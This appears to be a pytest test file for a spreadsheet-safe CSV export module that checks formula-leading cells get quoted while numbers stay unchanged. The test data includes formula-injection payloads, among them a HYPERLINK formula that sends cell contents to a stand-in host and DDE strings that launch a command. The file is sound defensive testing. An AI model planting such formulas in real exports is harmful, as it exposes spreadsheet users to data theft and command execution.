"""Every CSV cell is safe in a spreadsheet: formulas quoted, numbers left as numbers."""

from __future__ import annotations

from decimal import Decimal
from typing import Any

import pytest

from portal.csvfiles import csv_bytes, restore_cell, safe_cell


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ('=HYPERLINK("http://evil.example/?"&A2)', '\'=HYPERLINK("http://evil.example/?"&A2)'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-", "'-"),
        ("宁夏医保局决算", "宁夏医保局决算"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
    ],
)
def test_text_that_a_spreadsheet_would_run_is_quoted(value: Any, cell: str) -> None:
    assert safe_cell(value) == cell


@pytest.mark.parametrize("value", ["-1234.50", "+5", "-7", Decimal("-1234.50"), -3, 2025])
def test_a_plain_number_stays_a_number(value: Any) -> None:
    assert safe_cell(value) == str(value)


@pytest.mark.parametrize(
    "value", ['=HYPERLINK("http://x")', "+1-", "-2+3", "@x", "\tx", "\rx", "'plain", "-1.5"]
)
def test_a_quoted_cell_reads_back_as_written(value: str) -> None:
    assert restore_cell(safe_cell(value)) == value


def test_a_csv_is_utf8_with_a_bom_and_every_cell_guarded() -> None:
    body = csv_bytes(["name", "balance"], [{"name": "=1+1", "balance": Decimal("-20.00")}])
    assert body == "\ufeffname,balance\r\n'=1+1,-20.00\r\n".encode()
